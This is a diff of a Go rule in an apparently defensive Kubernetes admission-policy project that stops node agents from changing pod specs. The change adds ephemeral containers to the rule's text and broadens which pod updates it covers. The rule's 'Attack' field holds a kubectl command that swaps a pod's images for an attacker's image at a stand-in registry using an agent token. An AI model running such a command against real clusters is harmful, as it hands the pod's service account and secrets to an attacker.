@@ -4,7 +4,6 @@
 package rules
 
 import (
-	admissionv1 "k8s.io/api/admission/v1"
 	"k8s.io/apimachinery/pkg/util/validation/field"
 
 	"noderestriction.plus/api/v1alpha1"
@@ -17,7 +16,7 @@ func podSpec() policy.Rule {
 		Doc: policy.Doc{
 			Title: "A node agent may not change the spec of pods",
 			Text: "An account that may update pods, to annotate them, may also replace their images: the pod then runs the image of an " +
-				"attacker with its own service account and secrets.",
+				"attacker with its own service account and secrets. So does an ephemeral container that is added to it.",
 			Kubelet: "The rule is for node agents only. An API server refuses a kubelet's update of a pod, except of its status.",
 			Attack:  `kubectl --token "$AGENT_TOKEN" set image "pod/$POD" "*=registry.example.com/evil"`,
 			Spec:    "spec.pods.spec",
@@ -26,7 +25,7 @@ func podSpec() policy.Rule {
 			Source:  "kubernetes v1.37.2 pkg/apis/core/validation (ValidatePodUpdate)",
 		},
 		OptIn:   true,
-		Agents:  sameForAgents([]policy.Target{target("pods", "", admissionv1.Update)}),
+		Agents:  sameForAgents(podSpecUpdates()),
 		Compile: compilePodSpec,
 		CEL: policy.CEL{
 			Kind: policy.NotAtAll, Strictest: "{}", Touches: touchesNothing, Why: "it is for node agents, whose writes the webhook alone evaluates",
